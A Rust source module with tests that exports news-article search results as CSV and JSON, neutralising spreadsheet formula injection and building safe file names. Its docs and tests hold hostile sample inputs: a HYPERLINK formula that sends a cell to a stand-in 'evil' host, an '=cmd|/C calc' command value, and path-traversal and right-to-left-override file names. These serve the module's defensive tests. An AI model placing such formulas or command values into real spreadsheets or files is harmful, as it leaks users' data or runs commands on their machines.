//! Export of a result set as CSV (RFC 4180) and JSON, for the browser's
//! download buttons. Columns: id, title, outlet, date, precision, author,
//! url, file, text (lead and body joined by blank lines).
//!
//! ## CSV and spreadsheets
//! Article fields are written by strangers, and a CSV export is usually
//! opened in a spreadsheet, which runs a cell starting with `=`, `+`, `-`
//! or `@` (or a tab or carriage return before one of those) as a formula:
//! `=HYPERLINK("http://evil/?"&A1, "click")` would leak a colleague's data.
//! Following OWASP's advice every CSV field is made safe the same way:
//!
//! 1. control characters are removed (C0 and C1, DEL), except the line feed
//!    that separates paragraphs (a lone carriage return becomes a line
//!    feed, a CR LF pair stays one line feed);
//! 2. a field whose first character is `=`, `+`, `-`, `@`, a tab or a
//!    carriage return gets a leading apostrophe (`'=SUM(A1)`), which every
//!    spreadsheet shows as text;
//! 3. the field is quoted when it contains `,`, `"`, a line break, or was
//!    neutralised, and inner quotes are doubled (RFC 4180).
//!
//! Rows end with CR LF. The JSON export keeps values as they are (JSON is
//! not executed), minus control characters.
//!
//! ## What was exported: the file name and the JSON header
//! An export records the corpus, the query and the filters it came from
//! ([`Meta`]), so a file found weeks later says what it holds:
//!
//! * the **file name**, `dateline-<corpus>-<query>-<filters>-<n>[-<view>].<ext>`
//!   (e.g. `dateline-seeds-putin-rt-tass-2021-01-01-2021-02-01-12.csv`),
//!   each part a [`slug`] (ASCII letters, digits and `-`, bounded, so the
//!   name is safe on every file system); `all` stands for an empty query;
//! * the **JSON** export is an object: `{ "dateline": {corpus, query,
//!   filters, url_state, exported}, "articles": [...] }` (`url_state` is
//!   the app's URL hash, which reopens the same search; `exported` is the
//!   time stamp the app passes in: the core has no clock).
//! * the **CSV** keeps its header row as the first line and carries no
//!   metadata inside: `# key: value` comment lines are not part of RFC
//!   4180, and spreadsheets, pandas and R's `read.csv` would read them as
//!   data rows (or fail on their column count). The file name records the
//!   corpus, query, filters and count instead, and the JSON export the
//!   whole state, including the URL that reopens it.
//!
//! ## Other views
//! [`Table`] exports any view as CSV (the same safe fields) and JSON
//! (an array of objects, one key per column): the compare view's
//! distinctive terms and keyword-in-context lines, the events view's
//! passages.

use crate::model::{Article, Outlet};
use serde::Serialize;
use std::collections::BTreeMap;

/// What an export was made from (see the module docs).
#[derive(Debug, Clone, Default, Serialize, PartialEq, Eq)]
pub struct Meta {
    /// Corpus name.
    pub corpus: String,
    /// Query text (empty: every article).
    pub query: String,
    /// Filters in force, by name (`outlets`, `languages`, `from`, `to`, ...).
    pub filters: BTreeMap<String, String>,
    /// The app's URL state (a `#/?...` hash that reopens the search).
    pub url_state: String,
    /// When the export was made (ISO 8601, from the app's clock).
    pub exported: String,
}

/// Longest slug of one part of a file name, in characters.
pub const SLUG_MAX: usize = 40;

/// A file-name-safe slug: ASCII letters and digits, lower case, runs of
/// anything else one `-`, at most `max` characters, no leading or
/// trailing `-`. Letters outside ASCII are dropped (`Пашинян` gives an
/// empty slug; the caller chooses what stands for it).
pub fn slug(s: &str, max: usize) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if out.len() >= max {
            break;
        }
        if c.is_ascii_alphanumeric() {
            out.push(c.to_ascii_lowercase());
        } else if !out.is_empty() && !out.ends_with('-') {
            out.push('-');
        }
    }
    out.trim_end_matches('-').to_string()
}

impl Meta {
    /// The export's file name: `dateline-<corpus>-<query>-<filters>-<n>[-<view>].<ext>`.
    pub fn file_name(&self, view: &str, n: usize, ext: &str) -> String {
        let mut parts = vec!["dateline".to_string()];
        let corpus = slug(&self.corpus, SLUG_MAX);
        parts.push(if corpus.is_empty() { "corpus".into() } else { corpus });
        let query = slug(&self.query, SLUG_MAX);
        parts.push(if query.is_empty() && self.query.trim().is_empty() {
            "all".into()
        } else if query.is_empty() {
            "query".into()
        } else {
            query
        });
        let filters = slug(&self.filters.values().cloned().collect::<Vec<_>>().join("-"), SLUG_MAX);
        if !filters.is_empty() {
            parts.push(filters);
        }
        parts.push(n.to_string());
        let view = slug(view, 20);
        if !view.is_empty() {
            parts.push(view);
        }
        format!("{}.{}", parts.join("-"), slug(ext, 8))
    }

    /// `{ "dateline": <meta>, <key>: <items> }`, control characters
    /// removed from every string.
    pub fn wrap_json(&self, key: &str, items: serde_json::Value) -> String {
        let mut value = serde_json::json!({ "dateline": self, key: items });
        clean_json(&mut value);
        serde_json::to_string_pretty(&value).unwrap_or_else(|_| "{}".into())
    }
}

/// A view as a table: column names and rows of text cells.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Table {
    /// Column names.
    pub columns: Vec<&'static str>,
    /// Rows, one cell per column.
    pub rows: Vec<Vec<String>>,
}

impl Table {
    /// CSV with a header row, every field made safe (module docs).
    pub fn to_csv(&self) -> String {
        let mut out = String::new();
        let mut line = |cells: &mut dyn Iterator<Item = &str>| {
            out.push_str(&cells.map(csv_field).collect::<Vec<_>>().join(","));
            out.push_str("\r\n");
        };
        line(&mut self.columns.iter().copied());
        for r in &self.rows {
            line(&mut r.iter().map(String::as_str));
        }
        out
    }

    /// The rows as JSON objects keyed by column name.
    pub fn to_value(&self) -> serde_json::Value {
        serde_json::Value::Array(
            self.rows
                .iter()
                .map(|r| {
                    let map: serde_json::Map<String, serde_json::Value> = self
                        .columns
                        .iter()
                        .zip(r)
                        .map(|(c, v)| (c.to_string(), serde_json::Value::String(v.clone())))
                        .collect();
                    serde_json::Value::Object(map)
                })
                .collect(),
        )
    }
}

/// One exported row.
#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct Row<'a> {
    /// Article id.
    pub id: &'a str,
    /// Title.
    pub title: &'a str,
    /// Outlet name (empty when unknown).
    pub outlet: String,
    /// ISO date (empty when unknown).
    pub date: String,
    /// Date precision.
    pub precision: crate::model::DatePrecision,
    /// Author(s).
    pub author: &'a str,
    /// Source URL.
    pub url: &'a str,
    /// Input file.
    pub file: &'a str,
    /// Lead and body.
    pub text: String,
    /// Credit lines as printed (`teleSUR/ JF Source: EFE – El Salto`),
    /// several joined by ` | `.
    pub credit: String,
    /// The sources the credit lines name (`EFE; El Salto`).
    pub sources: String,
    /// A year the text pins for an undated article, never printed as its
    /// date (`2021`; see `crate::infer`), empty otherwise.
    pub suggested_year: String,
}

/// The row of an article.
pub fn row<'a>(outlets: &[Outlet], a: &'a Article) -> Row<'a> {
    Row {
        id: &a.id,
        title: &a.title,
        outlet: a
            .outlet
            .as_deref()
            .and_then(|k| outlets.iter().find(|o| o.key == k))
            .map(|o| o.name.clone())
            .unwrap_or_default(),
        date: a.date.date.map(|d| d.iso()).unwrap_or_default(),
        precision: a.date.precision,
        author: a.author.as_deref().unwrap_or(""),
        url: a.provenance.url.as_deref().unwrap_or(""),
        file: &a.provenance.file,
        text: a.texts().collect::<Vec<_>>().join("\n\n"),
        credit: a.credits.iter().map(|c| c.line.as_str()).collect::<Vec<_>>().join(" | "),
        sources: a.credits.iter().flat_map(|c| c.sources.iter().map(String::as_str)).collect::<Vec<_>>().join("; "),
        suggested_year: a.suggested_date.as_ref().map(|s| s.year.to_string()).unwrap_or_default(),
    }
}

/// Removes control characters except line feeds; carriage returns become
/// line feeds (a CR LF pair one line feed). Tabs inside a field are kept
/// as spaces.
pub fn strip_controls(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => out.push('\n'),
            '\r' => {
                if chars.peek() != Some(&'\n') {
                    out.push('\n');
                }
            }
            '\t' => out.push(' '),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// Characters that make a spreadsheet read a cell as a formula when they
/// come first.
const FORMULA_LEADS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// One CSV field, made safe for spreadsheets (see the module docs).
pub fn csv_field(raw: &str) -> String {
    // The formula check looks at the raw first character (a leading tab or
    // CR is itself a trigger), the rest at the cleaned text.
    let risky = raw.starts_with(FORMULA_LEADS);
    let mut s = strip_controls(raw);
    if risky || s.starts_with(FORMULA_LEADS) {
        s.insert(0, '\'');
    }
    if risky || s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// The CSV export's header row (columns added later go at the end, so
/// scripts reading columns by position keep working).
pub const CSV_HEADER: &str = "id,title,outlet,date,precision,author,url,file,text,credit,sources,suggested_year\r\n";

/// CSV with a header row.
pub fn to_csv(rows: &[Row]) -> String {
    let mut out = String::from(CSV_HEADER);
    for r in rows {
        let precision =
            serde_json::to_value(r.precision).ok().and_then(|v| v.as_str().map(str::to_string)).unwrap_or_default();
        let fields = [
            r.id,
            r.title,
            &r.outlet,
            &r.date,
            &precision,
            r.author,
            r.url,
            r.file,
            &r.text,
            &r.credit,
            &r.sources,
            &r.suggested_year,
        ];
        out.push_str(&fields.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    }
    out
}

/// The JSON export: `{ "dateline": <meta>, "articles": [rows] }`.
pub fn to_json_with_meta(meta: &Meta, rows: &[Row]) -> String {
    meta.wrap_json("articles", serde_json::to_value(rows).unwrap_or_default())
}

/// JSON array of rows (control characters removed from every string).
pub fn to_json(rows: &[Row]) -> String {
    let mut value = serde_json::to_value(rows).unwrap_or_default();
    clean_json(&mut value);
    serde_json::to_string_pretty(&value).unwrap_or_else(|_| "[]".into())
}

fn clean_json(v: &mut serde_json::Value) {
    match v {
        serde_json::Value::String(s) => *s = strip_controls(s),
        serde_json::Value::Array(items) => items.iter_mut().for_each(clean_json),
        serde_json::Value::Object(map) => map.values_mut().for_each(clean_json),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn row_with(title: &str, author: &str, text: &str) -> Row<'static> {
        Row {
            id: "a",
            title: Box::leak(title.to_string().into_boxed_str()),
            outlet: "RT".into(),
            date: "2021-01-11".into(),
            precision: crate::model::DatePrecision::Day,
            author: Box::leak(author.to_string().into_boxed_str()),
            url: "",
            file: "a.txt",
            text: text.into(),
            credit: String::new(),
            sources: String::new(),
            suggested_year: String::new(),
        }
    }

    /// Parses CSV with the `csv` crate (an independent RFC 4180 reader).
    fn read(csv_text: &str) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv_text.as_bytes())
            .records()
            .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn csv_round_trips_through_a_csv_reader() {
        let rows = vec![row_with("Putin, \"quoted\"", "", "line one\n\nline two")];
        let parsed = read(&to_csv(&rows));
        assert_eq!(parsed[0][1], "title");
        assert_eq!(parsed[1][1], "Putin, \"quoted\"");
        assert_eq!(parsed[1][4], "day");
        assert_eq!(parsed[1][8], "line one\n\nline two");
        let json: serde_json::Value = serde_json::from_str(&to_json(&rows)).expect("json");
        assert_eq!(json[0]["outlet"], "RT");
    }

    /// Regression (issue 12): formula-leading fields were exported raw, so
    /// a spreadsheet ran them; NUL and BEL passed through.
    #[test]
    fn formula_injection_is_neutralised() {
        let cases: &[(&str, &str)] = &[
            ("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "' =1+1"),
            ("\r=1+1", "'\n=1+1"),
            ("\u{0}=cmd", "'=cmd"),
            ("a\u{0}b\u{7}c", "abc"),
            ("plain title", "plain title"),
            ("a - b = c", "a - b = c"),
            ("café \u{85}x", "café x"),
        ];
        for (raw, want) in cases {
            let parsed = read(&to_csv(&[row_with(raw, raw, raw)]));
            for col in [1, 5, 8] {
                assert_eq!(parsed[1][col], *want, "raw {raw:?} column {col}");
            }
        }
    }

    #[test]
    fn json_export_drops_control_characters() {
        let json = to_json(&[row_with("a\u{7}b", "", "x\u{0}y")]);
        let v: serde_json::Value = serde_json::from_str(&json).expect("json");
        assert_eq!(v[0]["title"], "ab");
        assert_eq!(v[0]["text"], "xy");
    }

    #[test]
    fn slug_table() {
        let cases = [
            ("Putin Aliyev", "putin-aliyev"),
            ("  \"peace treaty\" -nato ", "peace-treaty-nato"),
            ("../../etc/passwd", "etc-passwd"),
            ("Пашинян", ""),
            ("a\u{202e}gnp.exe", "a-gnp-exe"),
            ("CON", "con"),
        ];
        for (input, want) in cases {
            assert_eq!(slug(input, SLUG_MAX), want, "{input:?}");
        }
        assert_eq!(slug(&"ab ".repeat(100), 10), "ab-ab-ab-a");
        assert!(slug(&"x".repeat(1000), SLUG_MAX).len() <= SLUG_MAX);
    }

    #[test]
    fn file_names_record_corpus_query_and_filters() {
        let mut meta = Meta { corpus: "corpus".into(), query: "Putin".into(), ..Default::default() };
        assert_eq!(meta.file_name("", 12, "csv"), "dateline-corpus-putin-12.csv");
        meta.filters.insert("outlets".into(), "rt,tass".into());
        meta.filters.insert("from".into(), "2021-01-01".into());
        assert_eq!(meta.file_name("compare", 3, "json"), "dateline-corpus-putin-2021-01-01-rt-tass-3-compare.json");
        meta.query = String::new();
        assert!(meta.file_name("", 5, "ris").starts_with("dateline-corpus-all-"));
        meta.query = "Пашинян".into();
        let hostile = Meta { corpus: "../x\n".into(), query: "=cmd|/C calc".repeat(50), ..Default::default() };
        let name = hostile.file_name("<view>", 1, "c/sv");
        assert!(name.len() < 140 && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.'), "{name}");
        assert_eq!(meta.file_name("", 1, "csv"), "dateline-corpus-query-2021-01-01-rt-tass-1.csv");
    }

    #[test]
    fn json_export_has_a_header() {
        let meta =
            Meta { corpus: "c".into(), query: "q\u{7}".into(), url_state: "#/?q=q".into(), ..Default::default() };
        let v: serde_json::Value =
            serde_json::from_str(&to_json_with_meta(&meta, &[row_with("t", "", "x")])).expect("json");
        assert_eq!(v["dateline"]["query"], "q");
        assert_eq!(v["dateline"]["url_state"], "#/?q=q");
        assert_eq!(v["articles"][0]["title"], "t");
    }

    #[test]
    fn tables_are_safe_csv_and_json_objects() {
        let t = Table {
            columns: vec!["outlet", "term"],
            rows: vec![vec!["RT".into(), "=HYPERLINK(1)".into()], vec!["T,ASS".into(), "a\nb".into()]],
        };
        let parsed = read(&t.to_csv());
        assert_eq!(parsed[0], ["outlet", "term"]);
        assert_eq!(parsed[1], ["RT", "'=HYPERLINK(1)"]);
        assert_eq!(parsed[2], ["T,ASS", "a\nb"]);
        assert_eq!(t.to_value()[1]["outlet"], "T,ASS");
    }

    proptest! {
        /// Every field reads back as its cleaned value; no cell a
        /// spreadsheet would run survives; rows and columns stay aligned.
        #[test]
        fn every_field_round_trips(fields in proptest::collection::vec(any::<String>(), 3)) {
            let rows = vec![row_with(&fields[0], &fields[1], &fields[2]), row_with("next", "row", "here")];
            let parsed = read(&to_csv(&rows));
            prop_assert_eq!(parsed.len(), 3);
            for (col, raw) in [(1, &fields[0]), (5, &fields[1]), (8, &fields[2])] {
                let cell = &parsed[1][col];
                let mut want = strip_controls(raw);
                if raw.starts_with(FORMULA_LEADS) || want.starts_with(FORMULA_LEADS) {
                    want.insert(0, '\'');
                }
                prop_assert_eq!(cell, &want);
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
                prop_assert!(!cell.chars().any(|c| c.is_control() && c != '\n'));
            }
            prop_assert_eq!(&parsed[2][1], "next");
        }
    }
}
